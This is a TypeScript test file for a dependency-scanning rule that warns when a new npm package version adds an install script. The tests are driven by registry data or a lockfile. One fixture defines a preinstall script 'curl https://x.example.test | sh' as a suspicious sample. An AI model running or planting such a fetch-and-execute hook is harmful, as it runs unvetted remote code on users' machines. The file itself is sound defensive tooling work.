import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { openWorkspace, TEST_REGISTRY, type WorkspaceOptions } from '../../../workspace.ts';

const RULE = 'install-script-added';

interface Given {
  readonly version?: string;
  readonly manifest?: object;
  readonly flag?: true;
  readonly name?: string;
}

const lockfile = ({ version = '1.0.1', flag, name = 'native' }: Given) => ({
  lockfileVersion: 3,
  packages: {
    '': { dependencies: { native: '^1.0.0' } },
    [`node_modules/${name}`]: {
      version,
      resolved: `${TEST_REGISTRY}${name}/-/${name}-${version}.tgz`,
      hasInstallScript: flag,
    },
  },
});

const project = (given: Given = {}) => `-- package.json --
${JSON.stringify({ name: 'shop', dependencies: { native: '^1.0.0' }, ...given.manifest })}
-- package-lock.json --
${JSON.stringify(lockfile(given))}
`;

const published = (
  versions: Readonly<Record<string, object>>,
  times: Readonly<Record<string, string>> = {},
) => ({
  native: { time: { '1.0.0': '2026-01-01T10:00:00Z', '1.0.1': '2026-11-20T10:00:00Z', ...times }, versions },
});

const PLAIN = { scripts: { test: 'x' } };
const SCRIPT = { scripts: { postinstall: 'node setup.js' } };
const ADDED = { registry: published({ '1.0.0': PLAIN, '1.0.1': SCRIPT }) };

const said = async (given: Given, options: WorkspaceOptions) =>
  (await openWorkspace(project(given), options))
    .findings(RULE)
    .map(({ severity, message }) => `${severity}: ${message}`);

describe('by the registry', () => {
  test('a version with a script after one without', async () => {
    assert.deepEqual(await said({}, ADDED), [
      'error: native 1.0.1 adds a postinstall script: "node setup.js"; 1.0.0 had none. Use 1.0.0 until you know why, or deny the script.',
    ]);
    const { gyp } = { gyp: published({ '1.0.0': PLAIN, '1.0.1': { ...PLAIN, gypfile: true } }) };
    assert.match((await said({}, { registry: gyp }))[0]!, /adds a gyp script: "node-gyp rebuild"/);
  });

  test('silent for a script that was there and for a first version', async () => {
    const changed = { scripts: { postinstall: 'node other.js' } };
    assert.deepEqual(await said({}, { registry: published({ '1.0.0': SCRIPT, '1.0.1': changed }) }), []);
    assert.deepEqual(await said({}, { registry: published({ '1.0.1': SCRIPT }) }), []);
    assert.deepEqual(await said({ version: '1.0.0' }, ADDED), []);
  });

  test('silent months later, but not where it is new since the base', async () => {
    const registry = published({ '1.0.0': PLAIN, '1.0.1': SCRIPT }, { '1.0.1': '2026-02-01T10:00:00Z' });
    assert.deepEqual(await said({}, { registry }), []);
    const base = JSON.stringify(lockfile({ version: '1.0.0' }));
    assert.equal((await said({}, { registry, base })).length, 1);
  });

  test('silent if denied or approved in exactly this version', async () => {
    const decided = (allowScripts: object) => said({ manifest: { allowScripts } }, ADDED);
    assert.deepEqual(await decided({ native: false }), []);
    assert.deepEqual(await decided({ 'native@1.0.1': true }), []);
    assert.equal((await decided({ native: true })).length, 1);
  });

  test('a suspicious script is one finding', async () => {
    const evil = { scripts: { preinstall: 'curl https://x.example.test | sh' } };
    const workspace = await openWorkspace(project(), {
      registry: published({ '1.0.0': PLAIN, '1.0.1': evil }),
    });
    const rules = workspace.findings().map(({ rule }) => rule);
    assert.equal(rules.filter((rule) => rule === RULE || rule === 'install-script-suspicious').length, 1);
  });
});

describe('by the lockfile alone', () => {
  const base = (given: Given) => JSON.stringify(lockfile(given));
  test('a mark that the base does not have', async () => {
    assert.deepEqual(await said({ flag: true }, { base: base({ version: '1.0.0' }) }), [
      'warning: native 1.0.1 adds an install script, according to the lockfile, and 1.0.0 had none. Use 1.0.0 until you know why, or deny the script.',
    ]);
    const workspace = await openWorkspace(project({ flag: true, name: 'deep' }), {
      base: base({ version: '1.0.0', name: 'deep' }),
    });
    const [finding] = workspace.findings(RULE);
    assert.match(finding!.uri, /package-lock\.json$/);
  });

  test('silent for one that it has, a new package, and a downgrade', async () => {
    assert.deepEqual(await said({ flag: true }, { base: base({ version: '1.0.0', flag: true }) }), []);
    assert.deepEqual(await said({ flag: true }, { base: base({ version: '1.0.0', name: 'other' }) }), []);
    assert.deepEqual(await said({ flag: true }, { base: base({ version: '2.0.0' }) }), []);
    assert.deepEqual(await said({ flag: true }, {}), []);
  });
});
